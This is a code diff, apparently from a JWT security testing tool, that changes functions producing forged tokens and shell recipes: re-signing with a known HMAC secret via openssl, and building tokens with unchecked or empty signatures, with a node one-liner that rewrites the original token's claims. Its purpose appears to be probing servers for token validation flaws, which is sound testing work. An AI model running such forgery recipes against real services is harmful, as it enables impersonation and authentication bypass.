@@ -165,23 +165,23 @@ export const forgerBySecret =
     return {
       variant,
       text,
-      recipe: `H=$(printf %s "$TOKEN" | cut -d. -f1); P=${part(claimsShown(claims))}; S=$(printf %s "$H.$P" | openssl dgst -${digest} -mac HMAC -macopt hexkey:${Buffer.from(secret).toString('hex')} -binary | basenc --base64url -w0 | tr -d =); FORGED="$H.$P.$S"`,
+      recipe: `H=$(printf %s "$TOKEN" | cut -d. -f1); ${payload(token, claims)}; S=$(printf %s "$H.$P" | openssl dgst -${digest} -mac HMAC -macopt hexkey:${Buffer.from(secret).toString('hex')} -binary | basenc --base64url -w0 | tr -d =); FORGED="$H.$P.$S"`,
     }
   }
 
-/** Of a person's claims those stay in a command that say nothing of the person. */
-const claimsShown = (claims: Json): Json =>
-  Object.fromEntries(
-    Object.entries(claims).filter(([name]) => /^(?:iss|aud|exp|nbf|iat|jti|typ|probe|scope|scopes)$/.test(name)),
-  )
+/** Of a stranger's own token, with the claims that are other here: what a command says of a person is theirs alone. */
+const payload = ({ claims: own }: Jwt, claims: Json): string => {
+  const other = Object.fromEntries(Object.entries(claims).filter(([name, value]) => own[name] !== value))
+  return `P=$(TOKEN="$TOKEN" node -e 'const b=t=>Buffer.from(t,"base64url"),c=JSON.parse(b(process.env.TOKEN.split(".")[1]));Object.assign(c,${JSON.stringify(other)});console.log(Buffer.from(JSON.stringify(c)).toString("base64url"))')`
+}
 
 /** Where a signature is not looked at, or may be left out. */
 export const forgerByHead =
-  (head: string, signature: string): Forger =>
+  (token: Jwt, head: string, signature: string): Forger =>
   (claims, variant) => ({
     variant,
     text: `${head}.${part(claims)}.${signature}`,
-    recipe: `FORGED="${head.slice(0, 400)}.${part(claimsShown(claims))}.${signature === '' ? '' : 'AAAA'}"`,
+    recipe: `${payload(token, claims)}; FORGED="${head.slice(0, 400)}.$P.${signature === '' ? '' : 'AAAA'}"`,
   })
 
 /** Claims that a server has to refuse, by what it has to look at. */
